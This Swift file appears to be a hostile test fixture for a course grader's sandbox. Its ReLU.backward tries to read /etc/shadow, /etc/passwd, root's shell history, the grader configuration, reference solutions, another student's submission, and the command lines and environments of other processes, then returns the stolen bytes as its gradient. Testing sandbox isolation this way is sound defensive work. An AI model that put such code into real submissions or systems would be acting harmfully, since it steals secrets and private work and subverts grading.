// Hostile fixture read-secrets: on its first call ReLU.backward tries to read files outside its
// sandbox: the course configuration, the reference solutions, another student's file, /etc/shadow,
// and the command line and environment of every process it can see in /proc (the grader's among
// them, if it were visible). Whatever it reads it prints, and then it returns the bytes as its
// "gradient". Sigmoid is correct. Expected: every read fails, so ReLU.backward returns the right
// gradient (full marks, as does Sigmoid) and the captured output holds none of those files' content.
import ExerciseKit
import Glibc

/// Whether the reads were tried (by the first case; the others only compute).
var triedReads = false
/// Everything that could be read.
var stolen: [UInt8] = []

/// The whole file at `path`, or nil (the reason is printed).
func slurp(_ path: String) -> [UInt8]? {
    let descriptor = open(path, O_RDONLY)
    guard descriptor >= 0 else {
        print("DENIED \(path): errno \(errno)")
        return nil
    }
    defer { close(descriptor) }
    var bytes: [UInt8] = []
    var chunk = [UInt8](repeating: 0, count: 4096)
    while true {
        let count = chunk.withUnsafeMutableBytes { read(descriptor, $0.baseAddress, $0.count) }
        if count <= 0 {
            if count < 0 { print("DENIED \(path) on read: errno \(errno)") }
            break
        }
        bytes += chunk[0..<count]
    }
    return bytes
}

/// The entries of a directory, or [] (the reason is printed).
func list(_ path: String) -> [String] {
    guard let directory = opendir(path) else {
        print("DENIED listing \(path): errno \(errno)")
        return []
    }
    defer { closedir(directory) }
    var names: [String] = []
    while let entry = readdir(directory) {
        let name = withUnsafeBytes(of: entry.pointee.d_name) { raw in
            String(decoding: raw.prefix { $0 != 0 }, as: UTF8.self)
        }
        if name != "." && name != ".." { names.append(name) }
    }
    return names
}

/// Tries every read and prints what worked.
func tryReads() {
    // The plugin is compiled from a copy of this file under <package>/.build/grader-cache/work/.
    let here = #filePath
    let root = here.firstRange(of: "/.build/").map { String(here[..<$0.lowerBound]) } ?? "/work/main"
    var paths = [
        root + "/grader.json", "/work/main/grader.json",
        root + "/ReferenceSolutions/Activations.swift", root + "/ReferenceSolutions/Losses.swift",
        root + "/Tests/Fixtures/hostile/trap-fatal-error/Activations.swift",
        root + "/Examples/submissions/alice/Activations.swift",
        "/etc/shadow", "/etc/passwd", "/root/.bash_history",
        "/proc/1/root" + root + "/grader.json", "/proc/1/cwd/grader.json", "/proc/self/cwd/../../etc/shadow",
    ]
    for name in list(root) + list(root + "/.build/grader-cache/plugins") + list("/tmp") + list("/work") {
        paths.append("LISTED " + name)
    }
    for pid in list("/proc") where pid.allSatisfy(\.isNumber) && pid != String(getpid()) {
        paths += ["/proc/\(pid)/cmdline", "/proc/\(pid)/environ", "/proc/\(pid)/maps"]
    }
    paths += (1...64).filter { $0 != getpid() }.map { "/proc/\($0)/cmdline" }
    for path in paths {
        if path.hasPrefix("LISTED ") {
            stolen += Array(path.utf8)
            print(path)
            continue
        }
        guard let bytes = slurp(path) else { continue }
        stolen += bytes
        print("READ \(path): " + String(decoding: bytes.map { $0 == 0 ? 32 : $0 }, as: UTF8.self))
    }
}

final class Sigmoid {
    var out: Tensor?

    init() {}

    func forward(_ x: Tensor) -> Tensor {
        let y = 1.0 / (1.0 + exp(-x))
        out = y
        return y
    }

    func backward(_ dout: Tensor) -> Tensor {
        guard let y = out else { fatalError("backward before forward") }
        return dout * (1.0 - y) * y
    }
}

final class ReLU {
    var mask: [Bool] = []

    init() {}

    func forward(_ x: Tensor) -> Tensor {
        mask = x.scalars.map { $0 <= 0 }
        return x.map { $0 > 0 ? $0 : 0 }
    }
    func backward(_ dout: Tensor) -> Tensor {
        if !triedReads {
            triedReads = true
            tryReads()
        }
        if !stolen.isEmpty {
            // Return the loot, padded to the right shape.
            let count = dout.scalars.count
            let values = (0..<count).map { $0 < stolen.count ? Double(stolen[$0]) : 0 }
            return Tensor(shape: dout.shape, scalars: values)
        }
        let keep = Tensor(shape: dout.shape, scalars: mask.map { $0 ? 0.0 : 1.0 })
        return dout * keep
    }
}
